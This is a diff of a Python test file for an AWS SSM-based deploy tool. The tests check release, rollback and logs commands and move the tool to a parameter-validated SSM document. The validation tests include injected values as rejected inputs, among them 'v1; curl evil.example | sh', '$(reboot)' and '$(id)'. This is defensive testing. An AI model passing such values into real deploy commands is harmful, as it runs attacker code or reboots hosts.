@@ -14,24 +14,17 @@ from botocore.stub import Stubber
 
 from ragstream.deploy.aws import AwsClients
 from ragstream.deploy.cli import _run_host
-from ragstream.deploy.release import logs_command, release_command, run_on_stack
+from ragstream.deploy.release import (
+    logs_command,
+    release_command,
+    rollback_command,
+    run_on_stack,
+)
 from ragstream.deploy.settings import DeploySettings
 from ragstream.errors import ConfigError
+from tests.deploy.helpers import launch
 
 COMMAND_ID = "0b5f6a51-6c52-4d2b-9d3e-2f1a7c9e8d10"
-
-
-def launch(aws, ami: str, stack: str) -> str:
-    ec2 = aws.client("ec2")
-    tags = [{"Key": "ragstream:stack", "Value": stack}]
-    found = ec2.run_instances(
-        ImageId=ami,
-        MinCount=1,
-        MaxCount=1,
-        InstanceType="t3.small",
-        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
-    )
-    return found["Instances"][0]["InstanceId"]
 
 
 @pytest.mark.aws
@@ -43,18 +36,20 @@ def test_release_sends_the_host_command_to_the_stack_instances_only(account):
     assert result.exit_code == 0, result.output
     assert f"[{ours}] Success (exit 0)" in result.output
     assert other not in result.output  # we wait on (and so sent to) our instance only
-    assert account.run("rollback").exit_code == 0
+    assert account.run("rollback", "--to", "v1").exit_code == 0
     assert account.run("logs", "--tail", "20").exit_code == 0
 
     commands = account.aws.client("ssm").list_commands()["Commands"]
-    by_text = {c["Parameters"]["commands"][0]: c for c in commands}
-    release = by_text["/usr/local/bin/ragstream-host release --tag 0123abc-dirty"]
-    assert release["DocumentName"] == "AWS-RunShellScript"
+    agent = [c for c in commands if c["DocumentName"] == "rs-test-host-agent"]
+    by_action = {(c["Parameters"]["action"][0], c["Parameters"]["ref"][0]): c for c in agent}
+    release = by_action[("release", "0123abc-dirty")]
     # (moto lists every instance under InstanceIds when no Targets are given, so the exact
     # InstanceIds sent are asserted with the Stubber below)
     assert ours in release["InstanceIds"]
-    assert "/usr/local/bin/ragstream-host rollback" in by_text
-    assert [text for text in by_text if "docker logs --tail 20" in text]
+    assert ("rollback", "v1") in by_action
+    # only the admin's `logs` is a shell command
+    (shell,) = [c for c in commands if c["DocumentName"] == "AWS-RunShellScript"]
+    assert "docker logs --tail 20" in shell["Parameters"]["commands"][0]
 
 
 @pytest.mark.aws
@@ -68,7 +63,10 @@ def test_release_without_an_instance_says_to_apply(account):
 def test_tags_are_checked_before_anything_is_sent():
     with pytest.raises(ConfigError, match="is not a Docker tag"):
         release_command("v1; curl evil.example | sh")
-    assert release_command("abc") == "/usr/local/bin/ragstream-host release --tag abc"
+    with pytest.raises(ConfigError, match="give a tag or a digest"):
+        rollback_command("$(reboot)")
+    assert str(release_command("abc")) == "/usr/local/bin/ragstream-host release abc"
+    assert rollback_command("sha256:" + "a" * 64).ref == "sha256:" + "a" * 64
     assert "docker logs --tail 50" in logs_command(50)
     with pytest.raises(ConfigError):
         logs_command(0)
@@ -94,12 +92,9 @@ def stubbed(monkeypatch):
         {"Command": {"CommandId": COMMAND_ID}},
         {
             "InstanceIds": ["i-0abc"],
-            "DocumentName": "AWS-RunShellScript",
+            "DocumentName": "rs-test-host-agent",
             "Comment": "ragstream deploy, stack rs-test",
-            "Parameters": {
-                "commands": ["/usr/local/bin/ragstream-host release --tag v2"],
-                "executionTimeout": ["900"],
-            },
+            "Parameters": {"action": ["release"], "ref": ["v2"]},
             "TimeoutSeconds": 900,
         },
     )
@@ -140,3 +135,20 @@ def test_the_cli_exits_non_zero_and_shows_the_output(stubbed, monkeypatch, capsy
     out, err = capsys.readouterr()
     assert "[i-0abc] Failed (exit 1)" in out and "pulling v2" in out
     assert "health check failed after 180s" in err
+
+
+def test_the_document_runs_the_agent_only_with_checked_parameters():
+    import re
+
+    from ragstream.deploy.document import ACTIONS, REF_PATTERN, document
+
+    body = document()
+    (step,) = body["mainSteps"]
+    assert step["inputs"]["runCommand"] == [
+        '/usr/local/bin/ragstream-host --ref "{{ ref }}" {{ action }}'
+    ]
+    assert body["parameters"]["action"]["allowedValues"] == list(ACTIONS)
+    for good in ("", "v1.2", "0123abc-dirty", "sha256:" + "0" * 64):
+        assert re.fullmatch(REF_PATTERN, good), good
+    for bad in ("v1; reboot", "$(id)", "`id`", 'a"b', "a b", "-rf", "sha256:xyz", "a\nb"):
+        assert not re.fullmatch(REF_PATTERN, bad), bad
